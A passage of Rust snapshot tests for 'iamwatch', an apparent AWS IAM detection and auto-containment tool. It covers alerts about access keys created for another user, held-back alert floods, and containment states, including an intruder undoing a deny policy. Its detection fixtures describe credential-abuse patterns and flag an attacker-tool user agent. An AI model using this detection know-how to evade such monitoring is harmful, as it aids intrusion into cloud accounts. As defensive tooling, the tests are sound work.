    one a second and 60 an hour are sent, and beside them 20 that are CRITICAL.
    What is above that is told in one message, at most every five minutes: this is
    one. The findings themselves were handed to machines as ever.

    Severity:  HIGH
    Incidents: 2 HIGH, 11 MEDIUM
    Accounts:  prod-payments (111122223333)
    When:      2026-11-22 04:13:46 UTC to 2026-11-22 04:18:02 UTC

    Loudest: HIGH user user-3 created access key AKIAIOSFODNN7EXAMPLE for user
             deploy-bot in prod-payments, x100
             HIGH user user-20 created access key AKIAIOSFODNN7EXAMPLE for user
             deploy-bot in prod-payments, x7
             MEDIUM user user-2 created access key AKIAIOSFODNN7EXAMPLE for user
             deploy-bot in prod-payments
             MEDIUM user user-7 created access key AKIAIOSFODNN7EXAMPLE for user
             deploy-bot in prod-payments
             MEDIUM user user-10 created access key AKIAIOSFODNN7EXAMPLE for user
             deploy-bot in prod-payments
             MEDIUM user user-0 created access key AKIAIOSFODNN7EXAMPLE for user
             deploy-bot in prod-payments
             MEDIUM user user-6 created access key AKIAIOSFODNN7EXAMPLE for user
             deploy-bot in prod-payments
             MEDIUM user user-8 created access key AKIAIOSFODNN7EXAMPLE for user
             deploy-bot in prod-payments
             MEDIUM user user-5 created access key AKIAIOSFODNN7EXAMPLE for user
             deploy-bot in prod-payments
             MEDIUM user user-4 created access key AKIAIOSFODNN7EXAMPLE for user
             deploy-bot in prod-payments
             and 3 incidents more

    Who, by incidents
         1  arn:aws:iam::111122223333:user/user-0
         1  arn:aws:iam::111122223333:user/user-1
         1  arn:aws:iam::111122223333:user/user-10
         1  arn:aws:iam::111122223333:user/user-11
         1  arn:aws:iam::111122223333:user/user-2
         1  arn:aws:iam::111122223333:user/user-20
         1  arn:aws:iam::111122223333:user/user-3
         1  arn:aws:iam::111122223333:user/user-4
         1  arn:aws:iam::111122223333:user/user-5
         1  arn:aws:iam::111122223333:user/user-6
            and 3 more

    What, by incidents
        12  access-key-created-for-another-user
         1  role-passed

    What to do
      1. Look at the incidents under Loudest first. Every finding is whole on the
         findings bus, and a line in the log of its watcher.
      2. If one principal under Who did most of it, ask them over a channel that
         is not their mail. If it was not them, deny that principal everything,
         then list all its calls in CloudTrail since an hour before the first
         alert.
      3. If many did it, list in CloudTrail the calls of that time by source
         address and user agent: it is one deployment, or one attacker with many
         identities.
    ");
    assert_snapshot!(pretty(&alert.chat), @r#"
    {
      "content": {
        "description": "15 alerts about 13 incidents in prod-payments were held back: more happened at once than may be mailed.\nIncidents: 2 HIGH, 11 MEDIUM\n`HIGH user user-3 created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments, x100`\n`HIGH user user-20 created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments, x7`\n`MEDIUM user user-2 created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments`\n`MEDIUM user user-7 created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments`\n`MEDIUM user user-10 created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments`\nBy: `1  arn:aws:iam::111122223333:user/user-0`\nBy: `1  arn:aws:iam::111122223333:user/user-1`\nBy: `1  arn:aws:iam::111122223333:user/user-10`\nBy: `1  arn:aws:iam::111122223333:user/user-11`\nBy: `1  arn:aws:iam::111122223333:user/user-2`",
        "keywords": [
          "HIGH",
          "alerts-held-back"
        ],
        "nextSteps": [
          "Look at the incidents under Loudest first. Every finding is whole on the findings bus, and a line in the log of its watcher.",
          "If one principal under Who did most of it, ask them over a channel that is not their mail. If it was not them, deny that principal everything, then list all its calls in CloudTrail since an hour before the first alert.",
          "If many did it, list in CloudTrail the calls of that time by source address and user agent: it is one deployment, or one attacker with many identities."
        ],
        "textType": "client-markdown",
        "title": "[HIGH] Alerts held back"
      },
      "metadata": {
        "additionalContext": {
          "count": "15",
          "severity": "HIGH"
        },
        "eventType": "alerts-held-back",
        "summary": "[HIGH] held back: 15 alerts about 13 incidents - prod-payments",
        "threadId": "alerts-held-back"
      },
      "source": "custom",
      "version": "1.0"
    }
    "#);
    assert_snapshot!(alert.sms, @"HIGH: 15 alerts about 13 incidents held back in prod-payments. Loudest: user user-3 created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments");
    assert_snapshot!(pretty(&alert.machine), @r#"
    {
      "activity_id": 1,
      "activity_name": "Create",
      "category_name": "Findings",
      "category_uid": 2,
      "class_name": "Detection Finding",
      "class_uid": 2004,
      "cloud": {
        "provider": "AWS"
      },
      "count": 15,
      "finding_info": {
        "created_time": 1795321082000,
        "title": "Alerts held back",
        "types": [
          "alerts-held-back"
        ],
        "uid": "alerts-held-back/1795321082000"
      },
      "is_alert": true,
      "message": "15 alerts about 13 incidents in prod-payments were held back: more happened at once than may be mailed.",
      "metadata": {
        "product": {
          "name": "iamwatch",
          "vendor_name": "iamwatch",
          "version": "0.1.0"
        },
        "profiles": [
          "cloud",
          "host"
        ],
        "uid": "alerts-held-back/1795321082000",
        "version": "1.6.0"
      },
      "severity": "High",
      "severity_id": 4,
      "start_time": 1795320826000,
      "status": "New",
      "status_id": 1,
      "time": 1795321082000,
      "type_name": "Detection Finding: Create",
      "type_uid": 200401,
      "unmapped": {
        "iamwatch": {
          "held": {
            "alerts": 15,
            "counts": {
              "0ffd858131eb9e423da7456d014798fd": 1,
              "16861cf315db57b50ec2074debc8b5f4": 1,
              "1dec077ad60b5bd649f79306dc9c0dce": 1,
              "2c17b70498dbf53d205006188c672d07": 1,
              "417d96d1e6cbdbff2600692cfff9762b": 1,
              "5c69793b43dbb9506cf250d17325e08f": 7,
              "842b0d74abf4c94b4f8df838d876b8b4": 1,
              "91a20b283ebe75b0d25ab00509ba4270": 1,
              "93c8a71e18ccc8d35c7ebafad2b544b2": 1,
              "9c140008676050aeb650cf3ca901e7bf": 1,
              "b420a0a3b8b3563486b2a4a841db22fd": 1,
              "d6a0d8951cffbcbecb9e22103a49f20d": 100,
              "f8cf716bfbccd22e57f7a8608a5f0864": 1
            },
            "incidents": 13,
            "loudest": [
              {
                "account": "111122223333",
                "count": 100,
                "detection": "access-key-created-for-another-user",
                "incident": "d6a0d8951cffbcbecb9e22103a49f20d",
                "message": "user user-3 created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments",
                "principal": "arn:aws:iam::111122223333:user/user-3",
                "severity": "HIGH"
              },
              {
                "account": "111122223333",
                "count": 7,
                "detection": "role-passed",
                "incident": "5c69793b43dbb9506cf250d17325e08f",
                "message": "user user-20 created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments",
                "principal": "arn:aws:iam::111122223333:user/user-20",
                "severity": "HIGH"
              },
              {
                "account": "111122223333",
                "count": 1,
                "detection": "access-key-created-for-another-user",
                "incident": "0ffd858131eb9e423da7456d014798fd",
                "message": "user user-2 created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments",
                "principal": "arn:aws:iam::111122223333:user/user-2",
                "severity": "MEDIUM"
              },
              {
                "account": "111122223333",
                "count": 1,
                "detection": "access-key-created-for-another-user",
                "incident": "16861cf315db57b50ec2074debc8b5f4",
                "message": "user user-7 created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments",
                "principal": "arn:aws:iam::111122223333:user/user-7",
                "severity": "MEDIUM"
              },
              {
                "account": "111122223333",
                "count": 1,
                "detection": "access-key-created-for-another-user",
                "incident": "1dec077ad60b5bd649f79306dc9c0dce",
                "message": "user user-10 created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments",
                "principal": "arn:aws:iam::111122223333:user/user-10",
                "severity": "MEDIUM"
              },
              {
                "account": "111122223333",
                "count": 1,
                "detection": "access-key-created-for-another-user",
                "incident": "2c17b70498dbf53d205006188c672d07",
                "message": "user user-0 created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments",
                "principal": "arn:aws:iam::111122223333:user/user-0",
                "severity": "MEDIUM"
              },
              {
                "account": "111122223333",
                "count": 1,
                "detection": "access-key-created-for-another-user",
                "incident": "417d96d1e6cbdbff2600692cfff9762b",
                "message": "user user-6 created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments",
                "principal": "arn:aws:iam::111122223333:user/user-6",
                "severity": "MEDIUM"
              },
              {
                "account": "111122223333",
                "count": 1,
                "detection": "access-key-created-for-another-user",
                "incident": "842b0d74abf4c94b4f8df838d876b8b4",
                "message": "user user-8 created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments",
                "principal": "arn:aws:iam::111122223333:user/user-8",
                "severity": "MEDIUM"
              },
              {
                "account": "111122223333",
                "count": 1,
                "detection": "access-key-created-for-another-user",
                "incident": "91a20b283ebe75b0d25ab00509ba4270",
                "message": "user user-5 created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments",
                "principal": "arn:aws:iam::111122223333:user/user-5",
                "severity": "MEDIUM"
              },
              {
                "account": "111122223333",
                "count": 1,
                "detection": "access-key-created-for-another-user",
                "incident": "93c8a71e18ccc8d35c7ebafad2b544b2",
                "message": "user user-4 created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments",
                "principal": "arn:aws:iam::111122223333:user/user-4",
                "severity": "MEDIUM"
              }
            ],
            "more_wait": false
          },
          "quarantine": null
        }
      }
    }
    "#);
    assert_snapshot!(format!("{:?} {:?}", alert.attributes, alert.lists), @r#"{"mode": "dry-run", "severity": "HIGH"} {"account": ["111122223333"], "detection": ["access-key-created-for-another-user", "role-passed"], "watcher": ["access-keys", "iam-changes"]}"#);
    check_message(&alert);
}

#[test]
fn a_message_about_ten_thousand_held_alerts_is_whole_and_fits() {
    let one = held_back(0, Severity::High, 1_000_000);
    let long = |number: u32| Held {
        incident: format!("{number:032x}"),
        principal: "\u{1f600}".repeat(3_000),
        statement: "\u{1f600}".repeat(3_000),
        detection: "\u{1f600}".repeat(3_000),
        account: format!("{number}{}", "\u{1f600}".repeat(3_000)),
        ..one.clone()
    };
    let held: Vec<Held> = (0..10_000).map(long).collect();
    let alert = of_held(&held, &Context::new(&config()), at("2026-11-22T04:18:02Z"));
    check_message(&alert);
    let machine = serde_json::from_str::<Value>(&alert.sns_message()).unwrap()["sqs"].as_str().unwrap().to_owned();
    let machine: Value = serde_json::from_str(&machine).unwrap();
    let told = &machine["unmapped"]["iamwatch"]["held"];
    assert_eq!(
        (&told["alerts"], &told["incidents"], &told["more_wait"]),
        (&json!(10_000), &json!(10_000), &json!(true))
    );
    assert_eq!(told["counts"].as_object().unwrap().len(), 1_000);
    assert!(alert.email.contains("of which the next message tells"), "{}", alert.email);
}

fn record(state: State, refusal: Option<Refusal>) -> Record {
    let finding = key_for_another(&json!({}));
    let Some(Ask::DisableAccessKey { user, key, .. }) = finding.asks.clone() else { unreachable!() };
    let step = Step::DisableAccessKey { user, key: key.clone() };
    let error = (state == State::Failed).then(|| "AccessDenied: not allowed to call iam:UpdateAccessKey".to_owned());
    let request = error.is_none().then(|| "6a1b2c3d-0000-4111-8222-333344445555".to_owned());
    let call = Call { what: step.words(), at: at("2026-11-22T04:13:48Z"), request, error };
    let proof = Proof { at: at("2026-11-22T04:13:49Z"), missing: Vec::new(), error: None };
    Record {
        id: "q-0123456789ab".to_owned(),
        rev: 1,
        turn: 1,
        state,
        subject: Subject::Key { user: "deploy-bot".to_owned(), key: key.clone() },
        evidence: "00".repeat(32),
        finding,
        plan: Plan { steps: if refusal.is_none_or(Refusal::waits) { vec![step] } else { Vec::new() }, refusal },
        before: Some(Facts {
            arn: "arn:aws:iam::111122223333:user/apps/deploy-bot".to_owned(),
            keys: vec![
                KeyFacts {
                    id: "AKIAI44QH8DHBEXAMPLE".to_owned(),
                    active: false,
                    created: Some(at("2024-02-01T09:00:00Z")),
                },
                KeyFacts { id: key, active: true, created: Some(at("2026-11-22T04:13:05Z")) },
            ],
            ..Facts::default()
        }),
        planned: None,
        arn: None,
        former: Vec::new(),
        aliases: Vec::new(),
        calls: if refusal.is_none() && state != State::DryRun { vec![call] } else { Vec::new() },
        proofs: if state == State::Verified { vec![proof] } else { Vec::new() },
        found: Vec::new(),
        taken_over: 0,
        round: 0,
        reapplied: 0,
        approval: None,
        meddling: Vec::new(),
        received: at("2026-11-22T04:13:46Z"),
        decided: None,
        contained: None,
        restoring: None,
        taken_back: None,
        giving: None,
        given_back: Vec::new(),
        followed_by: None,
        denied_until: None,
        acted: None,
        busy: None,
        doing: Vec::new(),
        at: at("2026-11-22T04:13:49Z"),
        told: false,
        news: None,
        with: Vec::new(),
        with_more: 0,
    }
}

#[test]
fn a_containment_that_is_proven_says_how_to_take_it_back() {
    let config = enforcing();
    let alert = of_containment(&record(State::Verified, None), &Context::new(&config));
    assert_snapshot!(alert.subject, @"[HIGH] iamwatch set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive - prod-payments");
    assert_snapshot!(alert.email, @"
    iamwatch set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive in prod-payments.

    Severity: HIGH
    State:    VERIFIED, IAM was asked again and says so
    Because:  user alice created access key AKIAIOSFODNN7EXAMPLE for user
              deploy-bot in prod-payments
    Account:  prod-payments (111122223333)
    When:     2026-11-22 04:13:05 UTC, told 44 s later
    Calls:    2026-11-22 04:13:48 UTC set access key AKIAIOSFODNN7EXAMPLE of user
              deploy-bot Inactive: done (request
              6a1b2c3d-0000-4111-8222-333344445555)
    Proof:    2026-11-22 04:13:49 UTC it holds
    Before:   arn:aws:iam::111122223333:user/apps/deploy-bot
              AKIAI44QH8DHBEXAMPLE Inactive, made 2024-02-01 09:00:00 UTC
              AKIAIOSFODNN7EXAMPLE Active, made 2026-11-22 04:13:05 UTC

    What to do
      1. Nothing is needed for this key. If it was made for good reason, give it
         back with a command under Undo.
      2. Follow the steps of the alert itself: the maker of the key may hold other
         credentials.

    Undo, in account prod-payments (111122223333)
      iamwatch quarantine restore q-0123456789ab
      aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Active

    Links
      Event:
      https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9
      User deploy-bot:
      https://us-east-1.console.aws.amazon.com/iam/home#/users/details/deploy-bot?section=security_credentials
      User alice:
      https://us-east-1.console.aws.amazon.com/iam/home#/users/details/alice?section=security_credentials

    Record:    q-0123456789ab
    Plan:      0e8879cf717e26fff189899ea25bbab5
    Detection: access-key-created-for-another-user
    Incident:  9cf05a604c4b911949c93d185f700eaa
    Event id:  0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9
    ");
    assert_snapshot!(alert.sms, @"HIGH: iamwatch set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive in prod-payments");
    assert_snapshot!(pretty(&alert.chat), @r#"
    {
      "content": {
        "description": "`iamwatch set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive in prod-payments.`\nWho: `arn:aws:iam::111122223333:user/eng/alice`\nFrom: `198.51.100.7`\nAccount: `prod-payments (111122223333)`\nWhen: `2026-11-22 04:13:05 UTC, told 44 s later`\nTool: `Kali Linux, made for attacks, by its user agent`\nState: `VERIFIED, IAM was asked again and says so`\nUndo: `iamwatch quarantine restore q-0123456789ab`\nUndo: `aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Active`\nEvent: https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9\nUser deploy-bot: https://us-east-1.console.aws.amazon.com/iam/home#/users/details/deploy-bot?section=security_credentials\nUser alice: https://us-east-1.console.aws.amazon.com/iam/home#/users/details/alice?section=security_credentials",
        "keywords": [
          "HIGH",
          "access-key-created-for-another-user",
          "prod-payments"
        ],
        "nextSteps": [
          "Nothing is needed for this key. If it was made for good reason, give it back with a command under Undo.",
          "Follow the steps of the alert itself: the maker of the key may hold other credentials."
        ],
        "textType": "client-markdown",
        "title": "[HIGH] Quarantine: Access key created for another user"
      },
      "id": "0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9",
      "metadata": {
        "additionalContext": {
          "account": "111122223333",
          "count": "1",
          "eventName": "CreateAccessKey",
          "region": "us-east-1",
          "severity": "HIGH"
        },
        "eventType": "access-key-created-for-another-user",
        "relatedResources": [
          "user deploy-bot"
        ],
        "summary": "[HIGH] iamwatch set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive - prod-payments",
        "threadId": "9cf05a604c4b911949c93d185f700eaa"
      },
      "source": "custom",
      "version": "1.0"
    }
    "#);
    check_message(&alert);
}

#[test]
fn the_mail_of_a_record_has_the_hash_of_the_event_as_it_came() {
    let mut record = record(State::Verified, None);
    record.finding.event.sha256 = Some("01234567".repeat(8));
    let email = of_containment(&record, &Context::new(&enforcing())).email;
    let line = email.lines().find(|line| line.starts_with("SHA-256:")).unwrap();
    assert!(line.ends_with(&"01234567".repeat(8)), "{email}");
}

#[test]
fn a_containment_that_failed_says_so_first_and_gives_the_command() {
    let config = enforcing();
    let alert = of_containment(&record(State::Failed, None), &Context::new(&config));
    assert_snapshot!(alert.subject, @"[HIGH] iamwatch could not set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot... - prod-payments");
    assert_snapshot!(alert.email, @"
    iamwatch could not set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive in prod-payments: AccessDenied: not allowed to call iam:UpdateAccessKey.

    Severity: HIGH
    State:    FAILED, the key may still work; iamwatch tries again for five
              minutes
    Because:  user alice created access key AKIAIOSFODNN7EXAMPLE for user
              deploy-bot in prod-payments
    Account:  prod-payments (111122223333)
    When:     2026-11-22 04:13:05 UTC, told 44 s later
    Calls:    2026-11-22 04:13:48 UTC set access key AKIAIOSFODNN7EXAMPLE of user
              deploy-bot Inactive: failed: AccessDenied: not allowed to call
              iam:UpdateAccessKey
    Before:   arn:aws:iam::111122223333:user/apps/deploy-bot
              AKIAI44QH8DHBEXAMPLE Inactive, made 2024-02-01 09:00:00 UTC
              AKIAIOSFODNN7EXAMPLE Active, made 2026-11-22 04:13:05 UTC

    What to do
      1. Set the key Inactive yourself with the command below, now.
      2. Follow the steps of the alert itself: the maker of the key may hold other
         credentials.

    To set it Inactive yourself, in account prod-payments (111122223333)
      aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Inactive

    Links
      Event:
      https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9
      User deploy-bot:
      https://us-east-1.console.aws.amazon.com/iam/home#/users/details/deploy-bot?section=security_credentials
      User alice:
      https://us-east-1.console.aws.amazon.com/iam/home#/users/details/alice?section=security_credentials

    Record:    q-0123456789ab
    Plan:      0e8879cf717e26fff189899ea25bbab5
    Detection: access-key-created-for-another-user
    Incident:  9cf05a604c4b911949c93d185f700eaa
    Event id:  0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9
    ");
    check_message(&alert);
}

/// A user with an open record, whose key leaked.
fn user_record(state: State, refusal: Option<Refusal>) -> Record {
    let user = "deploy-bot".to_owned();
    let policy = "arn:aws:iam::111122223333:policy/iamwatch-DenyEverything-1".to_owned();
    let steps = vec![
        Step::DenyUser { user: user.clone(), policy },
        Step::DisableAccessKey { user: user.clone(), key: "AKIAIOSFODNN7EXAMPLE".to_owned() },
    ];
    let plan = Plan { steps, refusal };
    let calls: Vec<Call> = plan
        .steps
        .iter()
        .filter(|_| refusal.is_none())
        .map(|step| Call { what: step.words(), at: at("2026-11-22T04:13:48Z"), request: None, error: None })
        .collect();
    let key = record(state, refusal);
    Record { subject: Subject::User { user }, plan, calls, proofs: Vec::new(), ..key }
}

#[test]
fn a_plan_that_waits_says_what_it_would_do_and_how_to_say_yes() {
    let config = enforcing();
    let alert = of_containment(&user_record(State::Pending, Some(Refusal::NotAutomatic)), &Context::new(&config));
    assert_snapshot!(alert.email, @"
    iamwatch did not contain user deploy-bot in prod-payments: it cuts off a whole user, so a person decides.

    Severity: HIGH
    State:    PENDING, nothing was changed: a person decides
    Because:  user alice created access key AKIAIOSFODNN7EXAMPLE for user
              deploy-bot in prod-payments
    Account:  prod-payments (111122223333)
    When:     2026-11-22 04:13:05 UTC, told 44 s later
    Before:   arn:aws:iam::111122223333:user/apps/deploy-bot
              AKIAI44QH8DHBEXAMPLE Inactive, made 2024-02-01 09:00:00 UTC
              AKIAIOSFODNN7EXAMPLE Active, made 2026-11-22 04:13:05 UTC

    What to do
      1. Read the calls below, and what IAM said before. Whom would they stop from
         working?
      2. If it may be: run the command under To approve, within four hours. The
         plan is shown again before you say yes.
      3. If it may not: do nothing. The plan ends by itself.

    To approve, in account prod-payments (111122223333)
      iamwatch quarantine approve q-0123456789ab

    The calls it would make, in account prod-payments (111122223333)
      aws iam attach-user-policy --user-name=deploy-bot --policy-arn=arn:aws:iam::111122223333:policy/iamwatch-DenyEverything-1
      aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Inactive

    Links
      Event:
      https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9
      User deploy-bot:
      https://us-east-1.console.aws.amazon.com/iam/home#/users/details/deploy-bot?section=security_credentials
      User alice:
      https://us-east-1.console.aws.amazon.com/iam/home#/users/details/alice?section=security_credentials

    Record:    q-0123456789ab
    Plan:      d5611ddd667c31c73c79e5cf4d18dd47
    Detection: access-key-created-for-another-user
    Incident:  9cf05a604c4b911949c93d185f700eaa
    Event id:  0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9
    ");
    check_message(&alert);
}

#[test]
fn a_containment_that_is_undone_by_others_says_how_to_end_the_fight() {
    let config = enforcing();
    let mut record = user_record(State::UndoneByOther, None);
    record.finding.severity = Severity::Critical;
    record.meddling = vec![Meddling {
        what: "detached iamwatch's deny from".to_owned(),
        by: "arn:aws:iam::111122223333:user/mallory".to_owned(),
        event: "1b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9".to_owned(),
        at: Some(at("2026-11-22T04:13:50Z")),
        gave: Gave::DenyOff,
        request: None,
        untold: false,
        user: "deploy-bot".to_owned(),
    }];
    let missing = vec![record.plan.steps[0].words()];
    record.proofs = vec![Proof { at: at("2026-11-22T04:13:56Z"), missing, error: None }];
    let alert = of_containment(&record, &Context::new(&config));
    assert_snapshot!(alert.email, @r#"
    iamwatch contained user deploy-bot in prod-payments: containment is being undone by arn:aws:iam::111122223333:user/mallory, who detached iamwatch's deny from user deploy-bot.

    Severity:     CRITICAL
    State:        UNDONE_BY_OTHER, done four times, and IAM does not show it
    Because:      user alice created access key AKIAIOSFODNN7EXAMPLE for user
                  deploy-bot in prod-payments
    Account:      prod-payments (111122223333)
    When:         2026-11-22 04:13:05 UTC, told 44 s later
    Calls:        2026-11-22 04:13:48 UTC deny user deploy-bot everything, open
                  sessions too: done
                  2026-11-22 04:13:48 UTC set access key AKIAIOSFODNN7EXAMPLE of
                  user deploy-bot Inactive: done
    Proof:        2026-11-22 04:13:56 UTC not in force: deny user deploy-bot
                  everything, open sessions too
    In force:     set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive
    Not in force: deny user deploy-bot everything, open sessions too
    Meddled:      2026-11-22 04:13:50 UTC arn:aws:iam::111122223333:user/mallory
                  detached iamwatch's deny from user deploy-bot
    Before:       arn:aws:iam::111122223333:user/apps/deploy-bot
                  AKIAI44QH8DHBEXAMPLE Inactive, made 2024-02-01 09:00:00 UTC
                  AKIAIOSFODNN7EXAMPLE Active, made 2026-11-22 04:13:05 UTC

    What to do
      1. In the organization's management account, attach the service control
         policy below to this account, now. It reaches every account of an
         organization but the management account itself.
      2. In CloudTrail, list who called IAM with this user's name in the 15
         minutes before this mail, and cut them off: somebody with rights in IAM
         works against you.
      3. Then contain the user again by hand, with the commands below.

    Service control policy, to attach in the management account
      {
        "Statement": [
          {
            "Action": "*",
            "Condition": {
              "ArnEquals": {
                "aws:PrincipalArn": "arn:aws:iam::111122223333:user/apps/deploy-bot"
              }
            },
            "Effect": "Deny",
            "Resource": "*",
            "Sid": "DenyTheUserEverything"
          },
          {
            "Action": [
              "iam:CreateAccessKey",
              "iam:CreateLoginProfile",
              "iam:CreateServiceSpecificCredential",
              "iam:DeleteUserPermissionsBoundary",
              "iam:DetachUserPolicy",
              "iam:PutUserPermissionsBoundary",
              "iam:UpdateLoginProfile",
              "iam:UpdateUser",
              "iam:UploadSSHPublicKey",
              "iam:UploadSigningCertificate"
            ],
            "Effect": "Deny",
            "Resource": "arn:aws:iam::111122223333:user/apps/deploy-bot",
            "Sid": "KeepTheUserContained"
          }
        ],
        "Version": "2012-10-17"
      }

    Undo, in account prod-payments (111122223333)
      iamwatch quarantine restore q-0123456789ab

    To do it yourself, in account prod-payments (111122223333)
      aws iam attach-user-policy --user-name=deploy-bot --policy-arn=arn:aws:iam::111122223333:policy/iamwatch-DenyEverything-1
      aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Inactive

    Links
      Event:
      https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9
      User deploy-bot:
      https://us-east-1.console.aws.amazon.com/iam/home#/users/details/deploy-bot?section=security_credentials
      User alice:
      https://us-east-1.console.aws.amazon.com/iam/home#/users/details/alice?section=security_credentials

    Record:    q-0123456789ab
    Plan:      d5611ddd667c31c73c79e5cf4d18dd47
    Detection: access-key-created-for-another-user
    Incident:  9cf05a604c4b911949c93d185f700eaa
    Event id:  0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9
    "#);
    check_message(&alert);
}

#[test]
fn what_is_to_be_pasted_for_others_is_commands_alone_and_cuts_nobody_in_two() {
    let config = enforcing();
    let pasted = |many: usize, with_more: usize| {
        let with = vec![user_record(State::Expired, Some(Refusal::BudgetSpent)); many];
        let mail = of_containment(
            &Record { with, with_more, ..record(State::Expired, Some(Refusal::BudgetSpent)) },
            &Context::new(&config),
        )
        .email;
        let block = mail.split("\n\n").find(|block| block.starts_with("To do the same with the others")).unwrap();
        block.lines().skip(1).map(|line| line.trim().to_owned()).collect::<Vec<_>>()
    };
    let one = pasted(1, 0);
    assert!(one.len() > 1 && one.iter().all(|line| line.starts_with("aws iam ")), "{one:?}");
    let fit = 100 / one.len();
    for (many, more, left) in [(fit, 0, 0), (fit + 44, 0, 44), (fit + 1, 6, 7), (1, 2, 2)] {
        let mut lines = pasted(many, more);
        if left > 0 {
            let last = lines.pop().unwrap();
            assert!(last.starts_with(&format!("# {left} more: ")), "{last}");
        }
        assert_eq!(lines, vec![one.clone(); many.min(fit)].concat());
    }
}

#[test]
fn every_outcome_of_a_containment_begins_with_what_was_done() {
    let config = enforcing();
    let outcomes = [
        (State::DryRun, None),
        (State::Applied, None),
        (State::Pending, Some(Refusal::Stale)),
        (State::Pending, Some(Refusal::BudgetSpent)),
        (State::Refused, Some(Refusal::Exempt)),
        (State::Refused, Some(Refusal::NoSuchKey)),
        (State::Refused, Some(Refusal::AlreadyInactive)),
        (State::Restored, None),
    ];
    let said = outcomes.map(|(state, refusal)| {
        let alert = of_containment(&record(state, refusal), &Context::new(&config));
        check_message(&alert);
        let todo =
            alert.email.split("\n\n").filter(|block| block.starts_with("What to do") || block.starts_with("To set"));
        [alert.email.lines().take(1).collect(), todo.collect::<Vec<_>>().join("\n")].join("\n")
    });
    assert_snapshot!(said.join("\n\n"), @"
    iamwatch would set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive in prod-payments.
    What to do
      1. Decide whether the key may stay. If not, set it Inactive yourself with
         the command below.
      2. Follow the steps of the alert itself: the maker of the key may hold other
         credentials.
    To set it Inactive yourself, in account prod-payments (111122223333)
      aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Inactive

    iamwatch set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive in prod-payments: IAM does not show it yet.
    What to do
      1. In 5 minutes, look at the key in the console: is it Inactive?
      2. If it is not, somebody undoes it: deny the user everything with a policy
         of your own.
      3. Follow the steps of the alert itself: the maker of the key may hold other
         credentials.

    iamwatch did not set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive in prod-payments: the event is more than 15 minutes old, so a person decides.
    What to do
      1. Read the calls below, and what IAM said before. Whom would they stop from
         working?
      2. If it may be: run the command under To approve, within four hours. The
         plan is shown again before you say yes.
      3. If it may not: do nothing. The plan ends by itself.
    To set it Inactive yourself, in account prod-payments (111122223333)
      aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Inactive

    iamwatch did not set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive in prod-payments: too many users were contained lately, so a person decides.
    What to do
      1. Read the calls below, and what IAM said before. Whom would they stop from
         working?
      2. If it may be: run the command under To approve, within four hours. The
         plan is shown again before you say yes.
      3. If it may not: do nothing. The plan ends by itself.
    To set it Inactive yourself, in account prod-payments (111122223333)
      aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Inactive

    iamwatch did not set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive in prod-payments: the user is exempt by configuration.
    What to do
      1. Decide whether the key may stay. If not, set it Inactive yourself with
         the command below.
      2. Follow the steps of the alert itself: the maker of the key may hold other
         credentials.
    To set it Inactive yourself, in account prod-payments (111122223333)
      aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Inactive

